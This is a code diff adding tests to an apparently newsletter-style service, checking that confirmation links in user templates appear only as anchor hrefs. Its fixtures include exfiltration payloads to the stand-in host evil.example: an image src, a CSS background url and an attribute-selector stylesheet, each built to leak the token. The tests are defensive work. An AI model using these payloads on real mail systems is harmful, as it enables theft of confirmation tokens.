@@ -161,6 +161,75 @@ for (const dialect of DIALECTS) {
       assert.deepEqual([unknown.statusCode, unknown.json()], [422, { error_code: 422, message: 'Argument template_id is invalid: no such template' }])
     })
 
+    // The real email as it goes out (the operator's full copy in the outbox), its link and where that link is.
+    const TOKEN = /https:\/\/news\.example\.org\/confirm\/([A-Za-z0-9_-]+\.[A-Za-z0-9_-]+)/
+    const count = (text: string, part: string) => text.split(part).length - 1
+    const viaTemplate = async (name: string, template: string, to: string) => {
+      const created = await t.call(account, { method: 'POST', url: '/template', payload: { name, body: Buffer.from(template).toString('base64') } })
+      const res = await optIn({ sender_email: 'owner@example.org', template_id: created.json<{ real_id: number }>().real_id, emails: [to] })
+      assert.deepEqual(res.json(), { result: true })
+      const [email] = await confirmations(to)
+      assert.ok(email, `a confirmation to ${to}`)
+      const token = TOKEN.exec(email.text)?.[1]
+      assert.ok(token, `the text part shows the link to click: ${email.text}`)
+      return { email, token, mac: token.split('.')[1]! }
+    }
+
+    it("puts the link into the account's template only as an anchor's href: an image (fetched on delivery) gets [hidden]", async () => {
+      const { email, token, mac } = await viaTemplate(
+        'Prefetch',
+        '<html><body><img src="https://evil.example/?u={{confirmation_link}}"><p style="background:url({{confirmation_link}})">Hi</p>' +
+          '<a href="{{confirmation_link}}">Confirm</a></body></html>',
+        'prefetched@example.com',
+      )
+      assert.equal(count(email.html, mac), 1, `the signature once in the HTML: ${email.html}`)
+      assert.ok(email.html.includes(`<a href="https://news.example.org/confirm/${token}">Confirm</a>`), email.html)
+      assert.ok(email.html.includes('<img src="https://evil.example/?u=[hidden]">'), email.html)
+      assert.ok(email.html.includes('<p style="background:url([hidden])">'), email.html)
+      assert.equal(count(email.text, mac), 1, email.text)
+      assert.ok(email.text.replace(/\s+/g, ' ').includes(`Confirm [https://news.example.org/confirm/${token}]`), email.text)
+      for (const shown of [email.subject, email.shown_subject, email.shown_html, email.shown_text]) assert.ok(!String(shown).includes(mac))
+      assert.ok(email.shown_html?.includes('<a href="[hidden]">Confirm</a><') && email.shown_html.includes('src="https://evil.example/?u=[hidden]"'), 'the account is shown what was sent')
+      const pressed = await t.app.inject({ method: 'POST', url: `/confirm/${token}` })
+      assert.equal(pressed.statusCode, 200, 'the anchor confirms')
+      assert.equal(await status('prefetched@example.com'), 1)
+    })
+
+    it("shows no link in the template's text, title or subject: only the anchor's href carries it", async () => {
+      const { email, token, mac } = await viaTemplate(
+        'In text',
+        '<html><head><title>{{confirmation_link}}</title></head><body><p>Paste {{confirmation_link}} into your browser</p>' +
+          '<a href="{{confirmation_link}}">{{confirmation_link}}</a></body></html>',
+        'in-text@example.com',
+      )
+      assert.equal(count(email.html, mac), 1, email.html)
+      assert.ok(email.html.includes('<title>[hidden]</title>') && email.html.includes('<p>Paste [hidden] into your browser</p>'), email.html)
+      assert.ok(email.html.includes(`<a href="https://news.example.org/confirm/${token}">[hidden]</a>`), email.html)
+      assert.equal(count(email.text, mac), 1, email.text)
+      assert.ok(!email.subject.includes(mac) && !email.subject.includes('confirm/'), email.subject)
+    })
+
+    it("drops the template's stylesheets that could read the anchor's href on delivery, and keeps the others", async () => {
+      const { email, token } = await viaTemplate(
+        'Reads href',
+        '<html><head><style>a[href^="https://news.example.org/confirm/M"] { background: url(https://evil.example/M) }</style>' +
+          '<style>p { color: #333 }</style><link rel="stylesheet" href="https://evil.example/more.css"></head>' +
+          '<body><p>Hi</p><a href="{{confirmation_link}}">Confirm</a></body></html>',
+        'css-reader@example.com',
+      )
+      assert.equal(
+        email.html,
+        `<html><head><style>p { color: #333 }</style></head><body><p>Hi</p><a href="https://news.example.org/confirm/${token}">Confirm</a></body></html>`,
+      )
+    })
+
+    it("adds the link block when the template has the link nowhere a click follows it, and shows it to no image", async () => {
+      const { email, token, mac } = await viaTemplate('Image only', '<p><img src="{{confirmation_link}}">Welcome</p>', 'image-only@example.com')
+      assert.equal(count(email.html, mac), 1, email.html)
+      assert.ok(email.html.includes('<img src="[hidden]">'), email.html)
+      assert.ok(email.html.includes(`<a href="https://news.example.org/confirm/${token}">Confirm subscription</a>`), email.html)
+    })
+
     it('uses only senders of the same account', async () => {
       const other = await t.account()
       const otherBook = (await t.call(other, { method: 'POST', url: '/addressbooks', payload: { bookName: 'Theirs' } })).json<{ id: number }>().id
